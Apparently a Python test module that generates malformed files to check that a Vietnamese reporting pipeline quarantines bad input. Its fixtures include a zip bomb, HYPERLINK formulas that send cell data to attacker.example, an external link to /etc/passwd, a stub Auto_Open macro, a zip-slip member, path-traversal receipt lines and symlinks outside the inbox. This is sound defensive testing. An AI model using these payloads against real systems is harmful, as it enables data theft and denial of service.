"""The bad-input corpus (issue #10): malformed files of every source kind, built by code.

Each `Case` writes its files into an inbox (and, for links, into a folder outside it) and says
exactly which quarantine rows the family's reader must produce for them: family, file, sheet,
row, column, action and words of the reason; `loaded` says how many data rows of the case's
files must still load. The expectations were worked out from the file each case writes and the
rules of sources.md / the readers' docstrings, not copied from a run. Files are small; the two
big ones (100,000 formatted rows, the zip bomb) are written as raw XML parts with zipfile, which
costs a fraction of a second.

File names start with the case id, so the whole corpus fits in one inbox beside good files
(test_mixed_inbox.py) without two cases touching the same file.
"""

from __future__ import annotations

import io
import os
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

import xlsxwriter

from tests.unit.workbooks import Report, info, write_report

FAMILIES = ("unit_reports", "press", "fanpage", "web", "surveys", "feedback", "infrastructure")


@dataclass(frozen=True)
class Q:
    """One expected quarantine row; `reason` holds words the reason must contain (all of them)."""

    file: str
    reason: tuple[str, ...]
    sheet: str | None = None
    row: int | None = None
    column: str | None = None
    action: str | None = None  # default: file_rejected without a row, row_rejected with one
    raw: str | None = None  # when given, the raw value exactly

    @property
    def expected_action(self) -> str:
        return self.action or ("file_rejected" if self.row is None else "row_rejected")


@dataclass(frozen=True)
class Case:
    id: str
    family: str
    what: str  # the malformation, in words
    build: Callable[[Path, Path], None]  # (inbox, outside) -> writes the files
    expect: tuple[Q, ...]
    files: tuple[str, ...] = ()  # the case's files (source_file), for counting what loaded
    loaded: int = 0  # data rows of `files` that must load (first data table of the family)
    mixable: bool = True  # False: the case needs an inbox of its own (it passes explicit paths)
    extra: Callable[[object], None] | None = None  # further assertions on the ReadResult

    @property
    def all_files(self) -> tuple[str, ...]:
        return tuple(dict.fromkeys((*self.files, *(q.file for q in self.expect))))


CASES: list[Case] = []


def case(
    id: str,
    family: str,
    what: str,
    expect: list[Q],
    *,
    files: tuple[str, ...] = (),
    loaded: int = 0,
    mixable: bool = True,
    extra: Callable[[object], None] | None = None,
):
    def register(build: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
        CASES.append(Case(id, family, what, build, tuple(expect), files, loaded, mixable, extra))
        return build

    return register


# ---------------------------------------------------------------- writing helpers


def windows_1258(text: str) -> bytes:
    """Text as Windows-1258 stores Vietnamese: a base letter (ơ, ư, â ...) then a tone mark byte."""
    out = bytearray()
    for ch in text:
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", ch)
        base, marks = parts[0], parts[1:]
        for mark in marks:  # ậ is a + dot below + circumflex: the letter is â, the tone the dot
            letter = unicodedata.normalize("NFC", base + mark)
            if len(letter) == 1 and letter.encode("cp1258", errors="replace") != b"?":
                base, marks = letter, marks.replace(mark, "", 1)
                break
        out += (base + marks).encode("cp1258")
    return bytes(out)


def put(inbox: Path, relative: str, data: str | bytes, encoding: str = "utf-8") -> Path:
    path = inbox / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = windows_1258(data) if encoding == "cp1258" else data.encode(encoding)
    path.write_bytes(data)
    return path


def link(inbox: Path, relative: str, target: Path) -> Path:
    path = inbox / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)
    return path


def receipt(inbox: Path, name: str, when: str) -> None:
    """Append a line to the receipt log (cases share it in the mixed inbox)."""
    path = inbox / "unit_reports" / "_received.csv"
    path.parent.mkdir(parents=True, exist_ok=True)
    if not path.exists():
        path.write_text("file,received_at\n", encoding="utf-8")
    with path.open("a", encoding="utf-8") as handle:
        handle.write(f"{name},{when}\n")


_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{sheets}</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def raw_xlsx(sheets: dict[str, str], extra_parts: dict[str, bytes] | None = None, level: int = 6) -> bytes:
    """An .xlsx from each sheet's <sheetData> content, written part by part (no Excel library)."""
    names = list(sheets)
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        + "".join(f'<sheet name="{n}" sheetId="{i + 1}" r:id="rId{i + 1}"/>' for i, n in enumerate(names))
        + "</sheets></workbook>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            f'Target="worksheets/sheet{i + 1}.xml"/>'
            for i in range(len(names))
        )
        + "</Relationships>"
    )
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(len(names))
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", _CT.format(sheets=overrides))
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", rels)
        for i, name in enumerate(names):
            archive.writestr(
                f"xl/worksheets/sheet{i + 1}.xml",
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                + sheets[name]
                + "</sheetData></worksheet>",
            )
        for part, data in (extra_parts or {}).items():
            archive.writestr(part, data)
    return buffer.getvalue()


def rewrite_part(data: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """The same .xlsx with one XML part changed (to add rows xlsxwriter would take seconds to write)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == part:
                content = change(content.decode("utf-8")).encode("utf-8")
            target.writestr(item.filename, content)
    return buffer.getvalue()


def _activity(
    stt: int, task: object, form: str, title: str, day: str, quantity: object = 1, reach: object = "", link: object = ""
) -> list[object]:
    return [stt, task, form, "Fanpage", title, day, quantity, reach, "", link, ""]


def report_bytes(
    unit: str, code: str | None, period: str, activities: list[list[object]], tmp: Path, **kwargs: object
) -> bytes:
    """A unit report as the template makes it (banner, header on row 3, data from row 4)."""
    path = tmp / f"_build_{abs(hash((unit, period, repr(activities), repr(kwargs))))}.xlsx"
    write_report(path, Report(info=info(unit, code, period, "10/12/2025"), activities=activities, **kwargs))
    data = path.read_bytes()
    path.unlink()
    return data


def good_report(tmp: Path, title: str = "Tin bài mẫu", unit: str = "Văn phòng", code: str = "VP") -> bytes:
    return report_bytes(unit, code, "Quý IV/2025", [_activity(1, "2.15", "Tin bài", title, "01/10/2025")], tmp)


UR = "unit_reports"


def ur(name: str) -> str:
    return f"unit_reports/{name}"


# ================================================================ unit reports (workbooks)


@case("ur_zero_bytes", UR, "a zero-byte .xlsx", [Q(ur("ur_zero_bytes.xlsx"), ("empty (0 bytes)",))])
def _(inbox: Path, outside: Path) -> None:
    put(inbox, ur("ur_zero_bytes.xlsx"), b"")


@case("ur_truncated", UR, "a workbook cut in half in transit", [Q(ur("ur_truncated.xlsx"), ("truncated or damaged",))])
def _(inbox: Path, outside: Path) -> None:
    data = good_report(outside, "Bài bị cắt")
    put(inbox, ur("ur_truncated.xlsx"), data[: len(data) // 2])


@case("ur_csv_named_xlsx", UR, "CSV text saved under .xlsx", [Q(ur("ur_csv_named_xlsx.xlsx"), ("really CSV",))])
def _(inbox: Path, outside: Path) -> None:
    put(inbox, ur("ur_csv_named_xlsx.xlsx"), "Tên đơn vị,Kỳ báo cáo\nVăn phòng,Quý IV/2025\n")


@case(
    "ur_html_named_xlsx",
    UR,
    "an HTML table saved under .xlsx (web export)",
    [Q(ur("ur_html_named_xlsx.xlsx"), ("really HTML",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, ur("ur_html_named_xlsx.xlsx"), "<html><body><table><tr><td>Văn phòng</td></tr></table></body></html>")


@case(
    "ur_zip_bomb",
    UR,
    "a zip bomb posing as .xlsx: one 40 MB sheet of zeros packed ~1000 to 1",
    [Q(ur("ur_zip_bomb.xlsx"), ("compressed", "to 1", "zip bomb"))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, ur("ur_zip_bomb.xlsx"), _zip_bomb())


@lru_cache(maxsize=1)
def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", _CT.format(sheets=""))
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (40 * 2**20))
    return buffer.getvalue()


@case(
    "ur_sparse_grid",
    UR,
    "a 1 KB workbook with one value in A1 and one in XFD1048576 (calamine would allocate 512 GB and abort)",
    [Q(ur("ur_sparse_grid.xlsx"), ("XFD1048576", "17,179,869,184 cells"))],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_sparse_grid.xlsx"),
        raw_xlsx(
            {
                "ThongTin": f'<row r="1">{cell("A1", "Tên đơn vị")}{cell("B1", "Văn phòng")}</row>',
                "HoatDong": f'<row r="1">{cell("A1", "x")}</row><row r="1048576">{cell("XFD1048576", "y")}</row>',
            }
        ),
    )


def _formatted_rows(first: int, count: int, blank: bool) -> str:
    if blank:  # formatting only: what Excel writes for a template formatted down to row 100,000
        return "".join(
            f'<row r="{r}" s="1" customFormat="1"><c r="A{r}" s="1"/><c r="K{r}" s="1"/></row>'
            for r in range(first, first + count)
        )
    # a space typed in every row (fill-down of a blank-looking cell): a value calamine keeps
    return "".join(
        f'<row r="{r}"><c r="B{r}" t="inlineStr"><is><t xml:space="preserve"> </t></is></c></row>'
        for r in range(first, first + count)
    )


def _report_with_tail(tmp: Path, title: str, blank: bool) -> bytes:
    data = report_bytes(
        "Văn phòng",
        "VP",
        "Quý IV/2025",
        [
            _activity(1, "2.15", "Tin bài", title, "01/10/2025"),
            _activity(2, "2.11", "Infographic", title + " 2", "02/10/2025"),
        ],
        tmp,
    )
    # HoatDong is sheet2; the header is on row 3, the activities on rows 4-5.
    return rewrite_part(
        data,
        "xl/worksheets/sheet2.xml",
        lambda xml: xml.replace("</sheetData>", _formatted_rows(6, 100_000, blank) + "</sheetData>"),
    )


@case(
    "ur_100k_formatted_rows",
    UR,
    "two activities, then 100,000 empty formatted rows",
    [],
    files=(ur("ur_100k_formatted_rows.xlsx"),),
    loaded=2,
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, ur("ur_100k_formatted_rows.xlsx"), _report_with_tail(outside, "Bảng định dạng dài", True))


@case(
    "ur_100k_space_rows",
    UR,
    "two activities, then 100,000 rows holding a single space",
    [],
    files=(ur("ur_100k_space_rows.xlsx"),),
    loaded=2,
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, ur("ur_100k_space_rows.xlsx"), _report_with_tail(outside, "Bảng có dấu cách", False))


def _formula_report(tmp: Path) -> bytes:
    """Formulas whose cached values differ from what evaluating them would give: the cached value
    (written by the last program that saved the file) must be read, the formula never run."""
    path = tmp / "_formula.xlsx"
    book = xlsxwriter.Workbook(str(path))
    ws = book.add_worksheet("ThongTin")
    for r, (k, v) in enumerate(info("Phòng Kế hoạch Tài chính", "KHTC", "Quý IV/2025", "10/12/2025")):
        ws.write_string(r, 0, k)
        ws.write_string(r, 1, str(v))
    ws = book.add_worksheet("HoatDong")
    ws.write_row(
        0,
        0,
        [
            "STT",
            "Nhiệm vụ",
            "Hình thức",
            "Kênh",
            "Tên hoạt động / sản phẩm",
            "Ngày thực hiện",
            "Số lượng",
            "Lượt tiếp cận",
            "Lượt tương tác",
            "Đường dẫn",
            "Ghi chú",
        ],
    )
    ws.write_row(1, 0, [1, "2.12", "Tin bài", "Fanpage"])
    ws.write_string(1, 4, '=HYPERLINK("http://attacker.example/?"&A1,"bấm vào")')  # typed text
    ws.write_string(1, 5, "05/10/2025")
    ws.write_formula(1, 6, "=1+1", None, 7)  # cached 7: evaluating would give 2
    ws.write_formula(1, 9, '=HYPERLINK("http://attacker.example/x","Xem bài")', None, "Xem bài")
    ws.write_formula(1, 10, "='file:///etc/[passwd]x'!A1", None, "ghi chú đã lưu")  # an external link
    book.close()
    data = path.read_bytes()
    path.unlink()
    return data


def _check_formulas(result) -> None:
    rows = result.tables["unit_report_activities"]
    rows = rows.filter(rows["source_file"] == ur("ur_formulas.xlsx")).to_dicts()
    assert len(rows) == 1
    row = rows[0]
    assert row["quantity"] == 7.0  # the cached value: =1+1 was not evaluated
    assert row["link"] == "Xem bài"  # HYPERLINK's cached text; the URL is not followed
    assert row["note"] == "ghi chú đã lưu"  # the external link's cached value; /etc/passwd not read
    assert row["title"] == '=HYPERLINK("http://attacker.example/?"&A1,"bấm vào")'  # text stays text


@case(
    "ur_formulas",
    UR,
    "=HYPERLINK, =1+1 and an external-link formula with cached values; formula-looking text",
    [],
    files=(ur("ur_formulas.xlsx"),),
    loaded=1,
    extra=_check_formulas,
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, ur("ur_formulas.xlsx"), _formula_report(outside))


def _macro_report(tmp: Path) -> bytes:
    path = tmp / "_macro.xlsm"
    vba = tmp / "vbaProject.bin"
    vba.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Sub Auto_Open(): Shell "calc": End Sub')
    book = xlsxwriter.Workbook(str(path))
    ws = book.add_worksheet("ThongTin")
    for r, (k, v) in enumerate(info("Phòng Tổ chức cán bộ", "TCCB", "Quý IV/2025", "10/12/2025")):
        ws.write_string(r, 0, k)
        ws.write_string(r, 1, str(v))
    ws = book.add_worksheet("HoatDong")
    ws.write_row(0, 0, ["Nhiệm vụ", "Hình thức", "Kênh", "Tên hoạt động / sản phẩm"])
    ws.write_row(1, 0, ["2.5", "Tin bài", "Fanpage", "Tôn vinh nhà giáo"])
    book.add_vba_project(str(vba))
    book.close()
    data = path.read_bytes()
    path.unlink()
    vba.unlink()
    return data


@case(
    "ur_macro_xlsm",
    UR,
    "an .xlsm with a VBA project (Auto_Open): read as data, the macro never runs",
    [],
    files=(ur("ur_macro_xlsm.xlsm"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, ur("ur_macro_xlsm.xlsm"), _macro_report(outside))


@case(
    "ur_zip_slip_member",
    UR,
    "a workbook carrying a part named ../../escaped.txt: never extracted",
    [],
    files=(ur("ur_zip_slip_member.xlsx"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    data = good_report(outside, "Bài có phần lạ")
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("../../escaped.txt", "nếu thấy tệp này ngoài hộp thư là lỗi")
    put(inbox, ur("ur_zip_slip_member.xlsx"), buffer.getvalue())


@case(
    "ur_legacy_xls", UR, "an Excel 97-2003 (.xls, OLE) file", [Q(ur("ur_legacy_xls.xls"), ("Excel 97-2003", ".xlsx"))]
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, ur("ur_legacy_xls.xls"), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)


@case(
    "ur_opendocument",
    UR,
    "an OpenDocument spreadsheet renamed .xlsx",
    [Q(ur("ur_opendocument.xlsx"), ("OpenDocument", "save it as .xlsx"))],
)
def _(inbox: Path, outside: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    put(inbox, ur("ur_opendocument.xlsx"), buffer.getvalue())


@case(
    "ur_no_activity_sheet",
    UR,
    "a workbook without the HoatDong sheet",
    [Q(ur("ur_no_activity_sheet.xlsx"), ("no HoatDong sheet", "ThongTin, Sheet1"))],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_no_activity_sheet.xlsx"),
        raw_xlsx(
            {
                "ThongTin": f'<row r="1">{cell("A1", "Tên đơn vị")}{cell("B1", "Văn phòng")}</row>',
                "Sheet1": f'<row r="1">{cell("A1", "x")}</row>',
            }
        ),
    )


@case(
    "ur_future_date",
    UR,
    "an activity dated 2031 in a Q4/2025 report",
    [
        Q(
            ur("ur_future_date.xlsx"),
            ("Ngày thực hiện", "01/01/2031", "2000"),
            sheet="HoatDong",
            row=5,
            column="Ngày thực hiện",
            raw="01/01/2031",
        )
    ],
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_future_date.xlsx"),
        report_bytes(
            "Văn phòng",
            "VP",
            "Quý IV/2025",
            [
                _activity(1, "2.15", "Tin bài", "Đúng ngày", "01/10/2025"),
                _activity(2, "2.15", "Tin bài", "Ngày tương lai", "01/01/2031"),
            ],
            outside,
        ),
    )


@case(
    "ur_date_before_2000",
    UR,
    "an activity dated 1999",
    [
        Q(
            ur("ur_date_before_2000.xlsx"),
            ("Ngày thực hiện", "15/06/1999", "2000"),
            sheet="HoatDong",
            row=4,
            column="Ngày thực hiện",
            raw="15/06/1999",
        )
    ],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_date_before_2000.xlsx"),
        report_bytes(
            "Văn phòng",
            "VP",
            "Quý IV/2025",
            [
                _activity(1, "2.15", "Tin bài", "Ngày quá khứ", "15/06/1999"),
            ],
            outside,
        ),
    )


@case(
    "ur_negative_reach",
    UR,
    "a negative reach (Lượt tiếp cận -500)",
    [
        Q(
            ur("ur_negative_reach.xlsx"),
            ("Lượt tiếp cận", "zero or more"),
            sheet="HoatDong",
            row=4,
            column="Lượt tiếp cận",
            raw="-500",
        )
    ],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_negative_reach.xlsx"),
        report_bytes(
            "Văn phòng",
            "VP",
            "Quý IV/2025",
            [
                _activity(1, "2.15", "Tin bài", "Âm", "01/10/2025", reach="-500"),
            ],
            outside,
        ),
    )


@case(
    "ur_unknown_task",
    UR,
    "task 2.19 (the plan has 2.1 .. 2.15)",
    [Q(ur("ur_unknown_task.xlsx"), ("Nhiệm vụ", "2.19"), sheet="HoatDong", row=4, column="Nhiệm vụ", raw="2.19")],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_unknown_task.xlsx"),
        report_bytes(
            "Văn phòng",
            "VP",
            "Quý IV/2025",
            [
                _activity(1, "2.19", "Tin bài", "Nhiệm vụ lạ", "01/10/2025"),
            ],
            outside,
        ),
    )


@case(
    "ur_unknown_unit",
    UR,
    "a unit that does not exist",
    [Q(ur("ur_unknown_unit.xlsx"), ("unit cannot be identified", "Phòng Không Tồn Tại"))],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_unknown_unit.xlsx"),
        report_bytes(
            "Phòng Không Tồn Tại",
            None,
            "Quý IV/2025",
            [
                _activity(1, "2.15", "Tin bài", "Đơn vị lạ", "01/10/2025"),
            ],
            outside,
        ),
    )


@case(
    "ur_unknown_period",
    UR,
    "Kỳ báo cáo 'Quý V/2025'",
    [Q(ur("ur_unknown_period.xlsx"), ("unknown reporting period", "Quý V/2025"))],
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_unknown_period.xlsx"),
        report_bytes(
            "Văn phòng",
            "VP",
            "Quý V/2025",
            [
                _activity(1, "2.15", "Tin bài", "Kỳ lạ", "01/10/2025"),
            ],
            outside,
        ),
    )


@case(
    "ur_totals_row",
    UR,
    "a 'Tổng cộng' row under the activities",
    [Q(ur("ur_totals_row.xlsx"), ("totals row",), sheet="HoatDong", row=5, column="STT", raw="Tổng cộng")],
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_totals_row.xlsx"),
        report_bytes(
            "Văn phòng",
            "VP",
            "Quý IV/2025",
            [
                _activity(1, "2.15", "Tin bài", "Có dòng tổng", "01/10/2025"),
                ["Tổng cộng", "", "", "", "", "", 1, "", "", "", ""],
            ],
            outside,
        ),
    )


@case(
    "ur_duplicate_copy",
    UR,
    "the same workbook sent twice under two names",
    [Q(ur("ur_duplicate_copy_b.xlsx"), ("same content as unit_reports/ur_duplicate_copy_a.xlsx",))],
    files=(ur("ur_duplicate_copy_a.xlsx"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    data = good_report(outside, "Gửi hai lần", "Phòng Kiểm tra - Pháp chế", "KTPC")
    put(inbox, ur("ur_duplicate_copy_a.xlsx"), data)
    put(inbox, ur("ur_duplicate_copy_b.xlsx"), data)
    receipt(inbox, "ur_duplicate_copy_a.xlsx", "2025-12-01T08:00:00+07:00")
    receipt(inbox, "ur_duplicate_copy_b.xlsx", "2025-12-02T08:00:00+07:00")


def _check_conflict(result) -> None:
    subs = result.tables["unit_report_submissions"]
    subs = subs.filter(subs["source_file"].str.starts_with(ur("ur_conflicting_"))).sort("received_at")
    # Both submissions are kept (history); dbt marks the later one is_latest.
    assert subs["source_file"].to_list() == [ur("ur_conflicting_v1.xlsx"), ur("ur_conflicting_v2.xlsx")]
    assert subs["unit_name"].to_list() == ["Phòng Giáo dục Mầm non"] * 2
    assert subs["period_key"].to_list() == ["2025-Q4"] * 2


@case(
    "ur_conflicting",
    UR,
    "two different reports for the same unit and period (a correction)",
    [],
    files=(ur("ur_conflicting_v1.xlsx"), ur("ur_conflicting_v2.xlsx")),
    loaded=3,
    extra=_check_conflict,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        ur("ur_conflicting_v1.xlsx"),
        report_bytes(
            "Phòng Giáo dục Mầm non",
            "GDMN",
            "Quý IV/2025",
            [_activity(1, "2.4", "Tin bài", "Bản đầu", "01/10/2025", quantity=5)],
            outside,
        ),
    )
    put(
        inbox,
        ur("ur_conflicting_v2.xlsx"),
        report_bytes(
            "Phòng Giáo dục Mầm non",
            "GDMN",
            "Quý IV/2025",
            [
                _activity(1, "2.4", "Tin bài", "Bản sửa", "01/10/2025", quantity=3),
                _activity(2, "2.4", "Video clip", "Bản sửa 2", "02/10/2025"),
            ],
            outside,
        ),
    )
    receipt(inbox, "ur_conflicting_v1.xlsx", "2025-12-03T08:00:00+07:00")
    receipt(inbox, "ur_conflicting_v2.xlsx", "2025-12-05T08:00:00+07:00")


@case(
    "ur_symlink_outside",
    UR,
    "a link in the inbox to a workbook outside it",
    [Q(ur("ur_symlink_outside.xlsx"), ("symbolic link", "outside the inbox", "never followed"))],
)
def _(inbox: Path, outside: Path) -> None:
    secret = put(outside, "secret_report.xlsx", good_report(outside, "Bí mật"))
    link(inbox, ur("ur_symlink_outside.xlsx"), secret)


@case(
    "ur_symlink_folder",
    UR,
    "a sub-folder of unit_reports linked to a folder outside the inbox",
    [Q(ur("ur_symlink_folder"), ("symbolic link", "outside the inbox"))],
)
def _(inbox: Path, outside: Path) -> None:
    folder = outside / "linked_folder"
    put(folder, "inside_the_link.xlsx", good_report(outside, "Thư mục liên kết"))
    link(inbox, ur("ur_symlink_folder"), folder)


@case(
    "ur_fifo",
    UR,
    "a FIFO named like a workbook (reading it would block forever)",
    [Q(ur("ur_fifo.xlsx"), ("not a regular file",))],
)
def _(inbox: Path, outside: Path) -> None:
    (inbox / UR).mkdir(parents=True, exist_ok=True)
    os.mkfifo(inbox / ur("ur_fifo.xlsx"))


@case(
    "ur_receipt_dotdot",
    UR,
    "a receipt-log line naming ../../etc/passwd",
    [Q(ur("_received.csv"), ("leaves the unit_reports folder",), row=2, column="file", raw="../../etc/passwd")],
)
def _(inbox: Path, outside: Path) -> None:
    receipt(inbox, "../../etc/passwd", "2025-12-01T08:00:00+07:00")


@case(
    "ur_path_outside",
    UR,
    "a caller asks for unit_reports/../../<outside file>",
    [Q(ur("ur_path_outside.xlsx"), ("outside the inbox",))],
    mixable=False,
)
def _(inbox: Path, outside: Path) -> None:
    put(outside, "ur_path_outside.xlsx", good_report(outside, "Ngoài hộp thư"))


# ================================================================ press (monitoring-service CSV)

PRESS_HEADER = "ma_tin,ngay_dang,co_quan_bao_chi,loai_hinh,the_loai,tieu_de,tom_tat,url,sac_thai,luot_xem\n"


def press_row(
    item: str,
    day: str = "20/11/2025 08:00",
    outlet: str = "Tuổi Trẻ",
    title: str = "Trường học hạnh phúc",
    views: str = "",
    url: str | None = None,
) -> str:
    url = url or f"https://tuoitre.vn/{item}"
    return f'"{item}","{day}","{outlet}","Báo điện tử","Tin","{title}","","{url}","Tích cực","{views}"\n'


def press(name: str) -> str:
    return f"media/press/{name}"


@case("press_zero_bytes", "press", "a zero-byte export", [Q(press("press_zero_bytes.csv"), ("empty",))])
def _(inbox: Path, outside: Path) -> None:
    put(inbox, press("press_zero_bytes.csv"), b"")


@case(
    "press_windows1258",
    "press",
    "an export saved in Windows-1258",
    [Q(press("press_windows1258.csv"), ("not UTF-8", "Windows-1258"))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, press("press_windows1258.csv"), PRESS_HEADER + press_row("W1", title="Học sinh giỏi"), "cp1258")


@case(
    "press_utf16",
    "press",
    "an export saved as UTF-16 (Excel's 'Unicode text')",
    [Q(press("press_utf16.csv"), ("UTF-16",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, press("press_utf16.csv"), PRESS_HEADER + press_row("U1"), "utf-16")


@case(
    "press_utf16_no_bom",
    "press",
    "UTF-16 without a byte-order mark",
    [Q(press("press_utf16_no_bom.csv"), ("NUL bytes",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, press("press_utf16_no_bom.csv"), PRESS_HEADER + press_row("U2"), "utf-16-le")


@case(
    "press_xlsx_named_csv",
    "press",
    "a workbook saved under .csv",
    [Q(press("press_xlsx_named_csv.csv"), ("Excel workbook or a zip archive",))],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, press("press_xlsx_named_csv.csv"), good_report(outside, "Nhầm định dạng"))


@case(
    "press_stray_quote",
    "press",
    "a literal double quote inside an unquoted title (Excel-made CSV)",
    [],
    files=(press("press_stray_quote.csv"),),
    loaded=3,
    extra=lambda result: _titles(
        result,
        "press_stray_quote.csv",
        ["Trường học hạnh phúc", 'Cô giáo nói "hạnh phúc với học trò', "Trường học hạnh phúc"],
    ),
)
def _(inbox: Path, outside: Path) -> None:
    # Before the fix the odd number of quotes made the reader blame the last, good row (Q3).
    put(
        inbox,
        press("press_stray_quote.csv"),
        "\ufeff"
        + PRESS_HEADER
        + press_row("Q1")
        + 'Q2,21/11/2025 08:00,Tuổi Trẻ,Báo điện tử,Tin,Cô giáo nói "hạnh phúc với học trò,,https://tuoitre.vn/q2,,\n'
        + press_row("Q3"),
    )


def _titles(result, name: str, titles: list[str]) -> None:
    rows = result.tables["press_items"]
    assert rows.filter(rows["source_file"] == press(name)).sort("source_row")["title"].to_list() == titles


@case(
    "press_unclosed_quote",
    "press",
    "a quote opened in a title and never closed: it swallows the rest of the file",
    [Q(press("press_unclosed_quote.csv"), ("ends inside a quoted value",), row=3)],
    files=(press("press_unclosed_quote.csv"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    put(
        inbox,
        press("press_unclosed_quote.csv"),
        "\ufeff"
        + PRESS_HEADER
        + press_row("C1")
        + '"C2","21/11/2025 08:00","Tuổi Trẻ","Báo điện tử","Tin","Cô giáo nói hạnh phúc,,https://tuoitre.vn/c2,,\n'
        + press_row("C3"),
    )


@case(
    "press_truncated",
    "press",
    "an export cut off in the middle of its last row",
    [
        Q(
            press("press_truncated.csv"),
            ("ends inside a quoted value", "truncated"),
            row=3,
            raw="T2,20/11/2025 08:00,Tuổi Trẻ,Báo điện tử,Ti",
        )
    ],
    files=(press("press_truncated.csv"),),
    loaded=1,
)
def _(inbox: Path, outside: Path) -> None:
    text = "\ufeff" + PRESS_HEADER + press_row("T1") + press_row("T2")
    put(inbox, press("press_truncated.csv"), text[: text.rindex('"Tin"') + 3])


@case(
    "press_future_date",
    "press",
    "an item dated 2031",
    [Q(press("press_future_date.csv"), ("outside", "reporting"), row=2, column="ngay_dang", raw="01/01/2031 08:00")],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, press("press_future_date.csv"), PRESS_HEADER + press_row("F1", day="01/01/2031 08:00"))


@case(
    "press_before_2000",
    "press",
    "an item dated 1999",
    [Q(press("press_before_2000.csv"), ("outside", "reporting"), row=2, column="ngay_dang", raw="15/06/1999 08:00")],
)
def _(inbox: Path, outside: Path) -> None:
    put(inbox, press("press_before_2000.csv"), PRESS_HEADER + press_row("B1", day="15/06/1999 08:00"))


@case(
    "press_negative_views",
    "press",
    "views -120",
    [Q(press("press_negative_views.csv"), ("zero or more", "'-120'"), row=2, column="luot_xem", raw="-120")],
)
